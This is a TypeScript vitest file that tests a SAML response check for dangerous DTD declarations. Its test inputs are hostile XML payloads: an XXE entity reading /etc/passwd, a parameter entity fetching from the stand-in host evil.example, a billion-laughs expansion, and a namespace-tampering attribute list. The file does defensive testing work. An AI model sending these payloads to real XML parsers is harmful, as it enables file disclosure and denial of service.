import { expect, test } from 'vitest';
import { entityDeclared } from '../../../../src-main/checks/signature/entity-declared';
import { responseXml } from '../../../helpers/response-xml';
import { failuresOf, outcomeOf, passes } from '../../../helpers/run-check';

const withDoctype = (declarations: string): string => `<!DOCTYPE r [${declarations}]>${responseXml()}`;
const said = (declarations: string): string =>
  failuresOf(entityDeclared, withDoctype(declarations))[0]?.message ?? '';

test('names what the declarations would do', () => {
  expect(said('<!ENTITY x SYSTEM "file:///etc/passwd">')).toContain('XXE');
  expect(said('<!ENTITY % x SYSTEM "http://evil.example/x">')).toContain('parameter entity');
  expect(said('<!ENTITY a "1"><!ENTITY b "&a;&a;">')).toContain('billion laughs');
  expect(said('<!ATTLIST saml:Assertion xmlns:saml CDATA "x">')).toContain('namespace');
  expect(said('<!ENTITY id "_a">')).toContain('expand');
});

test('a bare DOCTYPE has a check of its own; a message without one is none of this', () => {
  expect(passes(entityDeclared, `<!DOCTYPE r>${responseXml()}`)).toBe(true);
  expect(outcomeOf(entityDeclared, responseXml()).verdict).toBe('not-applicable');
});
